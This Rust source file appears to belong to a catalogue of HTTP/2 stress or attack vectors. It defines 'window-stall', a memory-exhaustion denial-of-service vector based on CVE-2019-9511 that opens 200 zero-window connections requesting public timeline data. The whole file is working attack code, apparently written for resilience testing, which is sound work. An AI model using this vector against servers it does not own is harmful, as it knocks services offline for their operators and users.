//! `window-stall`: large answers asked for under a window of nothing, so that the server holds
//! them

use crate::{
    vectors::{
        Family, Front, Resource, Vector,
        streams::{Manner, Salvo, attack},
    },
    wire::frames::{INITIAL_WINDOW, get},
};

pub(super) const VECTOR: Vector = Vector {
    name: "window-stall",
    family: Family::Http2,
    models: "large answers asked for under a window of nothing, so that the server holds them",
    source: "CVE-2019-9511 (data dribble) and its kin; h2: 582 MB for ten connections of 200 \
        streams, held",
    parameters: "200 connections of 60 streams; SETTINGS_INITIAL_WINDOW_SIZE 0, the public \
        timeline on each",
    resource: Resource::Memory { connections: 200, held_bytes: 58_000_000 },
    room: None,
    attack: |front| Box::pin(attack(front, MANNER)),
};

const MANNER: Manner =
    Manner { connections: 200, settings: &[(INITIAL_WINDOW, 0)], salvo, counts_resets: true };

fn salvo(front: &Front, turn: u32) -> Option<Salvo> {
    if turn > 0 {
        return None;
    }
    let path = "/api/v1/timelines/public?limit=40";
    let ask = |place: u32| get(place * 2 + 1, path, &front.scene.host);
    Some(Salvo { bytes: (0..60).flat_map(ask).collect(), offers: 60 })
}
